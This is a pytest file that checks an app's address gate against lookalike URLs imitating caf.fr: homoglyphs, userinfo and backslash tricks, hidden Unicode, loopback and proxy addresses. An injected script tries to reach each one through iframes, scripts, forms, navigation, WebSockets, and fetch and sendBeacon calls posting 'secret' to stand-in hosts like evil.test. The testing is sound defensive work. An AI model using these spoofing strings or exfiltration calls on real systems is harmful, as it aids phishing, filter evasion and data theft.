"""Family B: addresses that look like an allowed one, through every door of a page."""

import json

import pytest
from PySide6.QtCore import QUrl

from cabin_app.catalogue.address import ResourceKind
from cabin_app.catalogue.address_policy import (
    AddressRules,
    Allowed,
    Refused,
    SiteRules,
)
from cabin_app.catalogue.hosts import HostRule, Origin
from cabin_app.session import events
from support.hostile_page import HostilePage
from support.pages import PageServer
from support.web_bench import WebBench
from ui.web.gate import AddressGate

pytestmark = pytest.mark.web

LOOKALIKES = {
    "K21": [
        "https://www.caf.fr@evil.test/",
        "https://www.caf.fr:443@evil.test/",
        "https://user:word@www.caf.fr/",
        "https://%20@www.caf.fr/",
    ],
    "K23": [
        "https://evil.test\\@www.caf.fr/",
        "https:\\\\evil.test\\@www.caf.fr/",
        "https://evil.test\\.caf.fr/",
    ],
    "K24": ["https://www.caf.fr.evil.test/", "https://caf.fr.evil/"],
    "K25": ["https://evilcaf.fr/", "https://caf.fr-aides.com/", "https://ww-caf.fr/"],
    "K26": [
        "https://evil.test/?u=https://www.caf.fr/",
        "https://evil.test/www.caf.fr/",
        "https://evil.test/#www.caf.fr",
    ],
    "K29": [
        "https://www..caf.fr/",
        "https://.caf.fr/",
        "https://www.caf.fr./",
        f"https://{'a' * 64}.caf.fr/",
        f"https://{'a.' * 130}caf.fr/",
    ],
    "K30": ["https://www.caf.fr:8443/", "https://www.caf.fr:22/"],
    "K31": ["http://www.caf.fr/", "http://www.caf.fr:443/", "ws://www.caf.fr/"],
    "K32": ["HTTPS://EVIL.TEST/", "hTTps://eVil.test/"],
    "K34": [
        "https://www.cαf.fr/",
        "https://www.саf.fr/",
        "https://ⓔvil.test/",
        "https://www.caf.ꜰr/",
        "https://vvww.cаf.fr/",
    ],
    "K36": [
        "https://evil。test/",
        "https://evil．test/",
        "https://www。caf｡fr。evil.test/",
    ],
    "K37": [
        "https://evil.test⁄.caf.fr/",
        "https://evil.test／.caf.fr/",
        "https://evil.test∕www.caf.fr/",
    ],
    "K39": [
        "https://ev\u200bil.test/",
        "https://\u202ewww.caf.fr/",
        "https://evil.test\u2060/.caf.fr",
    ],
    "K40": [
        "ht\ntps://ev\til.test/",
        " \n https://evil.test/",
        "https://evil\r.test/",
        "https://evil.test /.caf.fr",
    ],
    "K42": [
        "https://2130706433/",
        "https://0x7f000001/",
        "https://0177.0.0.1/",
        "https://127.1/",
        "http://0.0.0.0:1/",
        "https://127.0.0.1/",
    ],
    "K43": [
        "https://[::1]/",
        "https://[::ffff:127.0.0.1]/",
        "https://[fe80::1%25lo]/",
        "https://[::ffff:7f00:1]:631/",
    ],
    "K64": [
        "https://translate.google.com/translate?u=https://www.caf.fr/",
        "https://www-caf-fr.translate.goog/",
        "https://web.archive.org/web/2026/https://www.caf.fr/",
        "https://www-caf-fr.cdn.ampproject.org/",
    ],
    "K65": [
        "https://www.google.com/search?q=caf.fr",
        "https://www.google.com/url?q=https://www.caf.fr/",
        "https://duckduckgo.com/?q=www.caf.fr",
    ],
}
DOORS = """
const address = ADDRESS, tried = [];
const attempt = act => { try { act(); } catch {} };
const add = (tag, name) => attempt(() => {
  const item = document.createElement(tag);
  item[name] = address;
  document.body.append(item);
  setTimeout(() => item.remove(), 40);
});
for (const [tag, name] of [['iframe', 'src'], ['img', 'src'], ['object', 'data'],
  ['script', 'src'], ['embed', 'src']]) add(tag, name);
attempt(() => fetch(address, {method: 'POST', body: 'secret'}).catch(() => 0));
attempt(() => navigator.sendBeacon(address, 'secret'));
attempt(() => new WebSocket(address.replace('http', 'ws')));
// A form whose action cannot be read is sent to its own page.
if (URL.canParse(address)) attempt(() => {
  const f = document.createElement('form');
  f.action = address; f.method = 'post';
  document.body.append(f); f.submit();
});
await new Promise(r => setTimeout(r, 15));
attempt(() => { location = address; });
await new Promise(r => setTimeout(r, 15));
"""


@pytest.fixture
def rules(site: PageServer) -> AddressRules:
    """The hostile page's own site, and one official site beside it."""
    official = SiteRules(page_hosts=(HostRule(name="caf.fr", with_subdomains=True),))
    return AddressRules(
        sites=(official,),
        practice_origins=frozenset({Origin(host=site.host, port=site.port)}),
    )


@pytest.fixture
def passed(bench: WebBench, monkeypatch: pytest.MonkeyPatch) -> set[str]:
    """Origins that any gate let through."""
    let_through: set[str] = set()
    ask = AddressGate.ask

    def asked(
        gate: AddressGate, url: QUrl, kind: ResourceKind, first_party: str = ""
    ) -> Allowed | Refused:
        verdict = ask(gate, url, kind, first_party)
        if isinstance(verdict, Allowed):
            let_through.add(url.authority() or url.toString())
        return verdict

    monkeypatch.setattr(AddressGate, "ask", asked)
    return let_through


@pytest.mark.parametrize("addresses", LOOKALIKES.values(), ids=LOOKALIKES.keys())
def test_a_lookalike_opens_no_door(
    hostile: HostilePage, passed: set[str], addresses: list[str]
) -> None:
    for address in addresses:
        hostile.run(DOORS.replace("ADDRESS", json.dumps(address)))
        assert hostile.is_here, address
        own = f"{hostile.site.host}:{hostile.site.port}"
        assert passed <= {own}, address


def test_an_allowed_name_in_capitals_is_the_same_name(
    hostile: HostilePage, passed: set[str]
) -> None:
    hostile.send("location = 'HTTPS://WWW。CAF.FR/'")
    hostile.bench.until(lambda: bool(hostile.bench.all_of(events.PageFailed)))
    assert "www.caf.fr" in passed
